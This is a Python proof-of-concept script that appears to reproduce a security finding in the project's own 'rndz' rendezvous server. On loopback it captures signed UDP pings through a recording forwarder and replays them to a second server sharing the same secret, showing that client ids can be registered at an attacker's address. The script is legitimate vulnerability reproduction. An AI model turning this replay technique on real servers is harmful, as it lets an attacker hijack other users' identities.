#!/usr/bin/python3
# replay-attack.py: replays signed pings captured on the way to one server
# to another server with the same secret (issue 18, finding 6)
#
# SPDX-License-Identifier: MIT
#
#   /usr/bin/python3 scripts/replay-attack.py _build/tools/rndz [N]
#
# Two `rndz server --secret-file` on 127.0.0.1, S1 and S2. N listeners
# (`rndz client --key-file`, ids alice0…) register with S1 through a UDP
# forwarder that plays the path an attacker sits on: it records every
# datagram they send. Each recorded ping is then sent, byte for byte, to
# S2 from the attacker's own socket. Printed: how many S2 answered with a
# pong, i.e. registered that id at the attacker's address. Builds whose
# server has --public-address are told the forwarder's address, as a
# server behind port forwarding would be.
#
# Loopback only; ends within some 30 s.

import json
import os
import select
import socket
import subprocess
import sys
import tempfile
import threading
import time


def start_server(rndz, secret_file, extra):
    proc = subprocess.Popen([rndz, "server", "--listen-addr", "127.0.0.1:0",
                             "--secret-file", secret_file, "--verbose"] + extra,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    line = proc.stdout.readline().strip()
    if not line.startswith("Listening on 127.0.0.1:"):
        sys.exit(f"server did not start: {line!r}")
    return proc, int(line.rsplit(":", 1)[1])


class Forwarder(threading.Thread):
    """client <-> 127.0.0.1:port <-> server, recording what clients send"""

    def __init__(self, server_port):
        super().__init__(daemon=True)
        self.front = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.front.bind(("127.0.0.1", 0))
        self.port = self.front.getsockname()[1]
        self.server = ("127.0.0.1", server_port)
        self.backs = {}         # client address -> socket towards the server
        self.recorded = []
        self.stop = False

    def run(self):
        while not self.stop:
            socks = [self.front] + list(self.backs.values())
            ready, _, _ = select.select(socks, [], [], 0.1)
            for sock in ready:
                if sock is self.front:
                    data, client = sock.recvfrom(2048)
                    self.recorded.append(data)
                    if client not in self.backs:
                        back = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                        back.bind(("127.0.0.1", 0))
                        back.connect(self.server)
                        self.backs[client] = back
                    self.backs[client].send(data)
                else:
                    data = sock.recv(2048)
                    client = next(c for c, s in self.backs.items() if s is sock)
                    self.front.sendto(data, client)


def main():
    rndz = sys.argv[1]
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 10
    tmp = tempfile.mkdtemp(prefix="rndz-replay-")
    secret_file = os.path.join(tmp, "secret")
    with open(secret_file, "w") as f:
        f.write("one secret for the cluster\n")

    help_text = subprocess.run([rndz, "server", "--help"], capture_output=True, text=True).stdout
    procs = []
    try:
        s2, s2_port = start_server(rndz, secret_file, [])
        procs.append(s2)
        # S1's port is needed for the forwarder, and the forwarder's for S1
        probe, s1_port = start_server(rndz, secret_file, [])
        probe.terminate()
        probe.wait()
        fwd = Forwarder(s1_port)
        extra = ["--listen-addr", f"127.0.0.1:{s1_port}"]
        if "--public-address" in help_text:
            extra += ["--public-address", f"127.0.0.1:{fwd.port}"]
        s1 = subprocess.Popen([rndz, "server", "--secret-file", secret_file] + extra,
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        procs.append(s1)
        s1.stdout.readline()
        fwd.start()

        registered_s1 = 0
        for i in range(n):
            key = subprocess.run([rndz, "key", "--secret-file", secret_file, "--id", f"alice{i}"],
                                 capture_output=True, text=True, check=True).stdout.strip()
            key_file = os.path.join(tmp, f"alice{i}.key")
            with open(key_file, "w") as f:
                f.write(key + "\n")
            client = subprocess.Popen([rndz, "client", "--id", f"alice{i}",
                                       "--server-addr", f"127.0.0.1:{fwd.port}",
                                       "--key-file", key_file, "--timeout", "5"],
                                      stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
            procs.append(client)
            if client.stdout.readline().startswith("Registered as"):
                registered_s1 += 1

        pings = [d for d in fwd.recorded if json.loads(d).get("type") == "ping"]
        attacker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attacker.bind(("127.0.0.1", 0))
        pongs = 0
        for data in pings:
            attacker.sendto(data, ("127.0.0.1", s2_port))
            ready, _, _ = select.select([attacker], [], [], 0.5)
            if ready:
                reply = json.loads(attacker.recv(2048))
                pongs += reply.get("type") == "pong"

        fwd.stop = True
        s2.terminate()
        _, s2_log = s2.communicate(timeout=5)
        s2_registered = sum("Registered UDP peer" in line for line in s2_log.splitlines())
        s2_notes = [line for line in s2_log.splitlines() if "--public-address" in line]
        print(f"listeners registered with S1 through the path: {registered_s1}/{n}")
        print(f"pings captured on the path: {len(pings)}")
        print(f"replayed to S2 from {attacker.getsockname()[0]}:{attacker.getsockname()[1]}: "
              f"{pongs}/{len(pings)} answered with a pong, "
              f"{s2_registered} registrations in S2's log")
        if s2_notes:
            print(f"S2 logged {len(s2_notes)} note(s): {s2_notes[0]}")
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.terminate()
        for proc in procs:
            try:
                proc.communicate(timeout=5)
            except subprocess.TimeoutExpired:
                proc.kill()


if __name__ == "__main__":
    main()
